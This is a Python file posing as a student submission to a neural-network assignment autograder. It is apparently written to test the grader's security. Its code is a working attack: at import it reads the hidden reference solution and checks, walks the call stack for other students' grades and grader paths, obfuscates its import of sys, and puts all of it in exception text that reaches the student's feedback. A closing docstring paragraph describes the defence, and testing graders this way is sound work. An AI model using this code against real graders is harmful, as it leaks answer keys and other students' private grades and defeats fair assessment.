"""Attack: smuggle secrets out through the student's own feedback.

The kit shows students the message of every failed hidden check (Otter's
show_hidden is on), and a check that calls a function which raises puts that
exception's text in the message.  So each contract function raises an
exception carrying something the student must never see: the hidden reference
solution (nn_grading/reference.py next to the submission), the hidden checks,
the grader's paths and argv, and the grades of the submissions graded before
this one in the same batch (the fast engine's worker is a fork of the batch
process, whose `results` list is on the stack).  All of it arrives in
feedback/<submission>.md.

A secure grader runs student code where there is nothing to steal, and puts
in feedback only text it wrote itself (the check's own message), truncated,
never the student's exception text verbatim.
"""
_imp = __import__
_sys = _imp("s" + "ys")


def _loot():
    parts = []
    try:
        parts.append("REFERENCE:\n" + open("nn_grading/reference.py").read()[:1500])
        parts.append("CHECKS:\n" + open("nn_grading/checks.py").read()[3000:4000])
    except OSError:
        pass
    frame = _sys._getframe()
    while frame is not None:
        if "results" in frame.f_locals and "pending" in frame.f_locals:
            parts.append("OTHER STUDENTS: " + "; ".join(
                f"{r.submission}={r.total} ({r.status})" for r in frame.f_locals["results"]))
            parts.append("GRADER: " + repr({k: str(frame.f_locals.get(k)) for k in ("submissions", "out", "scratch")}))
        frame = frame.f_back
    parts.append("ARGV: " + " ".join(_sys.argv))
    return "\n".join(parts)


_LOOT = _loot()


def _stub(*args, **kwargs):
    raise RuntimeError(_LOOT)


shape = zeros = transpose = dot = matmul = add = subtract = multiply = scale = add_bias = column_sums = apply = _stub
sigmoid = init_params = forward = bce_loss = dropout_forward = dropout_backward = backward = _stub
numerical_gradient = relative_error = update_params = train = predict = accuracy = _stub
plot_losses = plot_decision = _stub
